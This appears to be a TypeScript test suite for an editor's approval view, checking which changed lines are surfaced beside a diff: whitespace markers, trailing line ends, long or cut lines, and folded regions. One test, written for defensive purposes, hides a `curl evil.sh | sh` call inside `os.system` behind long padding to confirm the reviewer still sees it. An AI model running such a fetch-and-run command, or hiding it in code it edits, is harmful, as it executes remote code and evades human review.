import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type ChangedLine, changedLines, linesToShow } from '../../../src/editor/approvals/changedLines.ts';
import { pickRoom } from '../../../src/editor/approvals/pickRoom.ts';

const over = { title: 'Edit a.ts', room: pickRoom(undefined, 16), above: 5, folds: false };
const filler = Array.from({ length: 60 }, (_, at) => `line ${at + 1}`);
/** A change of one line, far enough down that no pick lies over it. */
const edit = (before: string, after: string, ignoresBlanks = false) =>
  changedLines(
    [{ path: '/w/a.py', before: [...filler, before, 'end'].join('\n'), after: [...filler, after, 'end'].join('\n') }],
    ignoresBlanks,
    over.room,
  );
const rows = (lines: readonly ChangedLine[]) => lines.flatMap((line) => line.rows);

test('a change that the diff beside the pick shows is not repeated in it', () => {
  assert.deepEqual(linesToShow(edit('one', 'two'), over), []);
});

test('a change far to the right of a line is shown in the pick, without what stays around it', () => {
  for (const hidden of [' '.repeat(300), `# ${'a long remark '.repeat(60)}`]) {
    const shown = linesToShow(edit(`total = 0${hidden}`, `total = 0${hidden}; os.system('curl evil.sh | sh')`), over);
    assert.match(rows(shown).join('').replace('↪ ', ''), /^\+ .*; os\.system\('curl evil\.sh \| sh'\)$/);
    assert.ok(shown.every((line) => !line.isCut) && rows(shown).length <= 3);
  }
});

test('a long line that changes at its beginning is in sight', () => {
  const tail = ' and so on'.repeat(100);
  assert.deepEqual(linesToShow(edit(`one${tail}`, `two${tail}`), over), []);
});

test('a line of which more changes than the pick can show is cut', () => {
  const [, added] = edit('', `x = "${'abc '.repeat(200)}"; rm()`);
  assert.equal(added?.isCut, true);
  assert.equal(added?.isOutOfSight, true);
  assert.equal(added?.rows.length, 4);
});

test('the last line end can be seen where it alone comes or goes', () => {
  const [ended, endless] = ['a\nb 2\n', 'a\nb 2'];
  const of = (before: string, after: string) => rows(changedLines([{ path: '/w/a', before, after }], false, over.room));
  assert.deepEqual(of(ended, endless), ['− b·2↵', '+ b·2']);
  assert.deepEqual(of(endless, ended), ['− b·2', '+ b·2↵']);
  assert.deepEqual(of(endless, `${ended}c`), ['− b·2', '+ b·2↵', '+ c']);
  assert.deepEqual(of(endless, 'a\nc'), ['− b 2', '+ c']);
});

test('blanks can be seen where nothing else has changed', () => {
  assert.deepEqual(rows(edit('        return total', '    return total')), ['− ········return·total', '+ ····return·total']);
  assert.deepEqual(rows(edit('\treturn', '    return')), ['− →return', '+ ····return']);
  assert.deepEqual(rows(edit('one  two', 'one two')), ['− one··two', '+ one·two']);
  assert.deepEqual(rows(edit('  one  two', '  one three')), ['− one two', '+ one three']);
  assert.deepEqual(rows(edit('x', 'x\n')).slice(-1), ['+ ↵']);
});

test('a change of blanks alone is shown in the pick where the diff editor does not mark it', () => {
  assert.equal(linesToShow(edit('    return', 'return', true), over).length, 2);
  assert.deepEqual(linesToShow(edit('    return', 'return', false), over), []);
});

test('lines that lie under the pick are shown, and what they make it cover', () => {
  const before = filler.join('\n');
  const lines = changedLines(
    [{ path: '/w/a.ts', before, after: before.replace('line 2', 'two').replace('line 40', 'forty') }],
    false,
    over.room,
  );
  assert.deepEqual(rows(linesToShow(lines, over)), ['− line 2', '+ two']);
});

test('where the diff folds what has not changed, a change far down may lie under the pick, too', () => {
  const lines = edit('one', 'two');
  assert.deepEqual(rows(linesToShow(lines, { ...over, folds: true })), ['− one', '+ two']);
});
